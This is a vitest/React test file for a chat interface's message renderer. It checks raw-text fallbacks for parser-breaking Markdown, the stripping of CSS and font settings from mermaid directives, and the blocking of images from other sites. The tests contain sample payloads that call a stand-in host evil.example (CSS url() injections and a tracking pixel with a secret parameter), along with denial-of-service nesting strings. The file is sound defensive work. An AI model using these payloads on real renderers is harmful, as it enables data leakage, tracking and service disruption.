import type { WidgetData } from "@agentfair/contracts";
import { render, screen, waitFor } from "@testing-library/react";
import mermaid from "mermaid";
import { afterEach, describe, expect, it, vi } from "vitest";
import { type ChatBusEvents, createBus } from "./event-bus";
import { Markdown } from "./markdown";
import { fitsMarkdown } from "./markdown-limits";
import { MessageBody } from "./message-body";
import { withoutDiagramStyles } from "./mermaid-config";
import type { UiMessage } from "./use-chat";
import { WidgetRenderersProvider } from "./widgets";
import { botMessage } from "../../test/messages";

const bot = (over: Partial<UiMessage>) => botMessage({ uuid: "m1", ...over });

const body = (message: UiMessage) => render(<MessageBody message={message} bus={createBus<ChatBusEvents>()} />);

/** React reports each error a boundary catches on console.error: expected here, kept out of the output. */
const quietErrors = () => vi.spyOn(console, "error").mockImplementation(() => undefined);

afterEach(() => {
  vi.restoreAllMocks();
});

describe("a stored reply the page cannot format", () => {
  it("shows a few thousand nested <div> as raw text instead of overflowing the stack", async () => {
    const content = `${"<div>".repeat(3000)}深${"</div>".repeat(3000)}`;
    body(bot({ content }));
    const raw = await screen.findByTestId("chat-raw-text");
    expect(raw.textContent).toContain("此内容无法按格式显示");
    expect(raw.querySelector("pre")?.textContent).toBe(content);
  });

  it("shows a few thousand nested quotes as raw text", async () => {
    const content = `${"> ".repeat(3000)}深`;
    body(bot({ content }));
    expect((await screen.findByTestId("chat-raw-text")).querySelector("pre")?.textContent).toBe(content);
  });

  it("shows a collapse whose title is an object, its JSON as the title", async () => {
    body(bot({ content: '[{"title":{"x":1},"content":"c"},{"title":"二","content":{"y":2}}]' }));
    expect(await screen.findByText('{"x":1}')).toBeTruthy();
    expect(screen.getByText("二")).toBeTruthy();
  });

  it("keeps a card that fails to render to itself: its data shows as raw text, the reply's text as it is", async () => {
    quietErrors();
    const Broken = () => {
      throw new Error("broken card");
    };
    const widget: WidgetData = { config: { kind: "design", designId: "d1" }, data: { a: 1 } };
    render(
      <WidgetRenderersProvider renderers={{ design: Broken }}>
        <MessageBody message={bot({ content: "正文", widgetData: widget })} bus={createBus<ChatBusEvents>()} />
      </WidgetRenderersProvider>,
    );
    expect(await screen.findByText("正文")).toBeTruthy();
    expect(screen.getByTestId("chat-raw-text").textContent).toContain('"designId": "d1"');
  });

  it("shows a reply whose formatting fails as raw text, and formats it again once the text changes", () => {
    quietErrors();
    // Tags broken over lines escape the limits' count (markdown-limits.ts): parse5 overflows the stack.
    const deep = "<div\n>".repeat(5000);
    const { rerender } = render(<Markdown text={deep} />);
    expect(screen.getByTestId("chat-raw-text").querySelector("pre")?.textContent).toBe(deep);
    rerender(<Markdown text="**好**" />);
    expect(screen.queryByTestId("chat-raw-text")).toBeNull();
    expect(document.querySelector("strong")?.textContent).toBe("好");
  });
});

describe("the limits of what is parsed as Markdown", () => {
  it("shows a huge nested list as plain text, at once", () => {
    const content = Array.from({ length: 400 }, (_, i) => `${"  ".repeat(i)}- 第${i}层`).join("\n");
    const started = performance.now();
    const { container } = render(<Markdown text={content} />);
    expect(performance.now() - started).toBeLessThan(1500);
    expect(container.querySelector("li")).toBeNull();
    expect(screen.getByTestId("chat-raw-text").querySelector("pre")?.textContent).toBe(content);
  });

  it("shows a text over 100 000 characters as plain text", () => {
    const content = "**粗体** 文字\n".repeat(12_000);
    const { container } = render(<Markdown text={content} />);
    expect(container.querySelector("strong")).toBeNull();
    expect(screen.getByTestId("chat-raw-text")).toBeTruthy();
  });

  it("parses what replies are made of", () => {
    const doc = [
      "# 标题",
      "- 一\n  - 二\n    - 三\n      1. 四\n         > 引用",
      `\`\`\`json\n{\n${'            "deep": [1, 2, 3],\n'.repeat(2000)}}\n\`\`\``,
      "> 引用\n> 续\n\n|a|b|\n|-|-|\n|1|2|",
      "<div align='center'><b>居中</b></div>",
      "[链接](https://example.com) ![图](/agent_api/x.png)",
    ].join("\n\n");
    expect(fitsMarkdown(doc)).toBe(true);
    expect(fitsMarkdown("- ".repeat(20).concat("x\n").repeat(100))).toBe(true);
    // Code is not Markdown: its generics, pointers and brackets count for nothing.
    const code = "const m: Map<string, Array<number>> = a_b * c; // *p **q [[i]\n".repeat(500);
    expect(fitsMarkdown(`\`\`\`ts\n${code}\`\`\``)).toBe(true);
    expect(fitsMarkdown("用 `Promise<void>` 和 `List<String>` 与 `*args`，".repeat(300))).toBe(true);
    // A long list whose items each have their emphases.
    expect(fitsMarkdown("- **粗体** 文字 *斜体* snake_case_name a*b\n".repeat(1500))).toBe(true);
  });

  it("refuses what makes the parser slow or overflow", () => {
    // One quote a hundred levels deep, then lines continuing it lazily: each checks every level again.
    expect(fitsMarkdown(`${"> ".repeat(60)}x\n${"y\n".repeat(5000)}`)).toBe(false);
    // Ordered items not starting at 1 continue the paragraph too.
    expect(fitsMarkdown(`${"> ".repeat(60)}x\n${"2. y\n".repeat(5000)}`)).toBe(false);
    // A deep list, then blank lines and lines indented into it.
    expect(fitsMarkdown(`${"- ".repeat(60)}x\n${`\n${"  ".repeat(60)}y\n`.repeat(200)}`)).toBe(false);
    expect(fitsMarkdown(`${"[".repeat(500)}x${"](u)".repeat(500)}`)).toBe(false);
    expect(fitsMarkdown(`${"<b>".repeat(500)}x`)).toBe(false);
    expect(fitsMarkdown(`${"- ".repeat(101)}x`)).toBe(false);
    // Emphases nested thousands deep overflow the stack; thousands that close nothing walk back over all.
    expect(fitsMarkdown(`${"*a ".repeat(4000)}${"b* ".repeat(4000)}`)).toBe(false);
    expect(fitsMarkdown(`${"*".repeat(4000)}x${"*".repeat(4000)}`)).toBe(false);
    expect(fitsMarkdown("a_ ".repeat(4000))).toBe(false);
  });
});

describe("a reply's mermaid diagram", () => {
  const diagram = (code: string) => `\`\`\`mermaid\n${code}\n\`\`\``;

  it("reaches mermaid without the CSS and fonts its directives set", async () => {
    const initialize = vi.spyOn(mermaid, "initialize");
    const renderDiagram = vi
      .spyOn(mermaid, "render")
      .mockResolvedValue({ svg: "<svg data-testid='diagram'></svg>", diagramType: "flowchart" });
    const code = `%%{init: {"theme": "dark", "themeCSS": ".node rect { background:url(https://evil.example/x) }", "fontFamily": "x;background:url(https://evil.example/f)", "themeVariables": {"primaryColor": "#fff", "fontFamily": "url(https://evil.example/v)"}}}%%
%%{initialize: {'altFontFamily': 'url(https://evil.example/a)', 'flowchart': {'curve': 'basis'}}}%%
graph TD; A-->B`;
    render(<Markdown text={diagram(code)} />);
    await waitFor(() => expect(renderDiagram).toHaveBeenCalled());
    const received = renderDiagram.mock.calls[0]?.[1] ?? "";
    expect(received).not.toMatch(/themeCSS|fontFamily|altFontFamily|evil\.example/i);
    expect(received).toContain('"theme":"dark"');
    expect(received).toContain('"primaryColor":"#fff"');
    expect(received).toContain('"curve":"basis"');
    expect(received).toContain("graph TD; A-->B");
    // Mermaid refuses the same keys from a diagram once it parsed them.
    expect(initialize.mock.calls[0]?.[0]?.secure).toEqual(
      expect.arrayContaining(["themeCSS", "fontFamily", "altFontFamily", "securityLevel"]),
    );
    expect(await screen.findByTestId("diagram")).toBeTruthy();
  });

  it("draws the diagram without the CSS its directive brings", async () => {
    const code = `%%{init: {"theme": "forest", "themeCSS": ".slice { background:url(https://evil.example/t) }", "fontFamily": "evilfont"}}%%
pie title 份额
  "甲": 1
  "乙": 2`;
    const { container } = render(<Markdown text={diagram(code)} />);
    await waitFor(() => expect(container.querySelector(".chat-mermaid svg")).toBeTruthy(), { timeout: 10_000 });
    const svg = container.querySelector(".chat-mermaid")?.innerHTML ?? "";
    expect(svg).toContain("份额");
    expect(svg).not.toMatch(/evil\.example|evilfont/);
  });

  it("drops the front matter's config and keeps its title", () => {
    const code =
      "---\ntitle: 流程\nconfig:\n  themeCSS: |\n    svg { background: url(https://evil.example/y) }\n  theme: dark\n---\ngraph TD; A-->B";
    expect(withoutDiagramStyles(code)).toBe("---\ntitle: 流程\n---\ngraph TD; A-->B");
  });

  it("cleans directives however they are written", () => {
    const cases = [
      '%%{ INIT : {"themeCSS": "x"} }%%\ngraph TD; A-->B',
      '%%{init: {"them\\u0065CSS": "url(https://evil.example)"}}%%\ngraph TD; A-->B',
      // A "comment" mermaid drops before it reads directives, which would join two halves into one.
      '%%{init: %%}%%x\n{"themeCSS": "url(https://evil.example)"}}%%\ngraph TD; A-->B',
      '%%{init: {"themeCSS": broken json url(https://evil.example)}}%%\ngraph TD; A-->B',
    ];
    for (const code of cases) expect(withoutDiagramStyles(code)).not.toMatch(/themeCSS|evil\.example/i);
  });
});

describe("a reply's images", () => {
  it("loads this site's images and shows other sites' as links, not loaded", () => {
    const { container } = render(
      <Markdown
        text={[
          "![像素](https://evil.example/pixel?secret=1)",
          '<img src="https://evil.example/raw.png">',
          "![协议相对](//evil.example/rel.png)",
          "<picture><source srcset='https://evil.example/s.png'><img src='/agent_api/pic.png' alt='图'></picture>",
          "![本站](/agent_api/api/files/data/1)",
        ].join("\n\n")}
      />,
    );
    const images = [...container.querySelectorAll("img")].map((i) => i.getAttribute("src"));
    expect(images).toEqual([`${location.origin}/agent_api/pic.png`, `${location.origin}/agent_api/api/files/data/1`]);
    expect(container.querySelector("source")).toBeNull();
    const links = [...container.querySelectorAll("a.chat-image-link")].map((a) => a.textContent);
    expect(links).toEqual(["https://evil.example/pixel?secret=1", "https://evil.example/raw.png", "//evil.example/rel.png"]);
  });
});
